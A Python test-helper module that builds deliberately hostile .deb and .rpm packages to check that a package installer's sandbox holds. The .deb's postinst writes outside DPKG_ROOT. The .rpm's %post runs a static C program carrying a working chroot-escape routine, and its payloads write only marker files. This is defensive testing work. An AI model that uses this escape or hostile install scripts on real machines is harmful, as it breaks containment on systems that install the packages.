"""Packages that try to write on the machine that installs them, for gfxpack try-install's
sandbox tests: a .deb whose postinst ignores DPKG_ROOT, and an .rpm whose %post has its
own static interpreter that leaves rpm's chroot. Each also leaves a mark in the root it
is installed into, so a test sees that its script did run."""

from __future__ import annotations

import shutil
import subprocess
from pathlib import Path

import pytest

from gfxpack.formats import DEB
from gfxpack.formats.info import PackageInfo
from gfxpack.repo import publish

# What each script writes in the root it runs for (so a test sees that it ran).
RAN = "hostile-ran"

# The %post interpreter: walk out of rpm's chroot as root can (chroot into a
# subdirectory without entering it, climb, chroot to where it stopped) and write at the
# path itself. It always succeeds, so the install does.
ESCAPE_C = r"""
#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>
static void put(const char *path) {
    int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0644);
    if (fd >= 0) { write(fd, "pwned\n", 6); close(fd); }
}
int main(void) {
    put("/" RAN);
    mkdir("/.out", 0755);
    if (chroot("/.out") == 0) {
        for (int i = 0; i < 64; i++) chdir("..");
        chroot(".");
    }
    put(SENTINEL);
    return 0;
}
"""

# The interpreter is in a bin directory, so that the repository's primary.xml lists it
# (zypper resolves a file dependency only from there).
SPEC = """\
Name: {name}
Version: 1.0
Release: 1
Summary: a package whose %post leaves rpm's chroot
License: MIT
AutoReqProv: no
%description
Writes {sentinel} on the machine installing it, if it can.
%install
mkdir -p %{{buildroot}}/usr/bin
cp {escape} %{{buildroot}}/usr/bin/{name}-escape
%files
/usr/bin/{name}-escape
%post -p /usr/bin/{name}-escape
"""


def hostile_deb(out: Path, name: str, postinst: str) -> Path:
    """A .deb of ``name`` with no files and ``postinst`` (a shell script body), written
    by gfxpack's writer into ``out``."""
    info = PackageInfo(
        name=name,
        version="1.0",
        release="1",
        arch="all",
        summary="a package whose postinst writes outside DPKG_ROOT",
        maintainer="gfxpack tests <tests@example.invalid>",
        scripts={"postinst": "#!/bin/sh\n" + postinst + "\nexit 0\n"},
        prefix="/",
    )
    out.mkdir(parents=True, exist_ok=True)
    path = out / DEB.filename(info)
    with open(path, "xb") as file:
        DEB.write(info, file)
    return path


def postinst_writing(sentinel: Path) -> str:
    """A postinst that marks the root it is given, then writes ``sentinel`` ignoring
    DPKG_ROOT (each write allowed to fail: the install goes on)."""
    return f'echo ran > "$DPKG_ROOT/{RAN}"\necho pwned > {sentinel} || true'


def escaping_rpm(out: Path, name: str, sentinel: Path, work: Path) -> Path:
    """An .rpm of ``name`` (rpmbuild) whose ``%post -p`` is its own static program
    (:data:`ESCAPE_C`, writing ``sentinel``); skips when gcc cannot link it static."""
    for tool in ("gcc", "rpmbuild"):
        if shutil.which(tool) is None:
            pytest.skip(f"{tool} not found: it builds the package whose %post leaves the chroot")
    work.mkdir(parents=True, exist_ok=True)
    (work / "escape.c").write_text(ESCAPE_C)
    escape = work / "escape"
    compiled = subprocess.run(
        [
            *("gcc", "-static", "-O1", "-o", str(escape), str(work / "escape.c")),
            f'-DSENTINEL="{sentinel}"',
            f'-DRAN="{RAN}"',
        ],
        capture_output=True,
        text=True,
        check=False,
    )
    if compiled.returncode != 0:
        pytest.skip(f"gcc cannot link a static program here (libc6-dev): {compiled.stderr}")
    spec = work / f"{name}.spec"
    spec.write_text(SPEC.format(name=name, sentinel=sentinel, escape=escape))
    subprocess.run(
        [
            *("rpmbuild", "-bb", "--quiet", str(spec)),
            *("--define", f"_topdir {work / 'rpmbuild'}"),
            *("--define", "debug_package %{nil}", "--define", "__os_install_post %{nil}"),
        ],
        capture_output=True,
        text=True,
        check=True,
    )
    (built,) = (work / "rpmbuild/RPMS").glob(f"*/{name}-1.0-1.*.rpm")
    out.mkdir(parents=True, exist_ok=True)
    return Path(shutil.copy2(built, out))


def published(packages: Path, where: Path) -> Path:
    """``packages`` (a directory of .debs and .rpms) published as repositories."""
    publish(packages, where, "stable", 1_700_000_000)
    return where
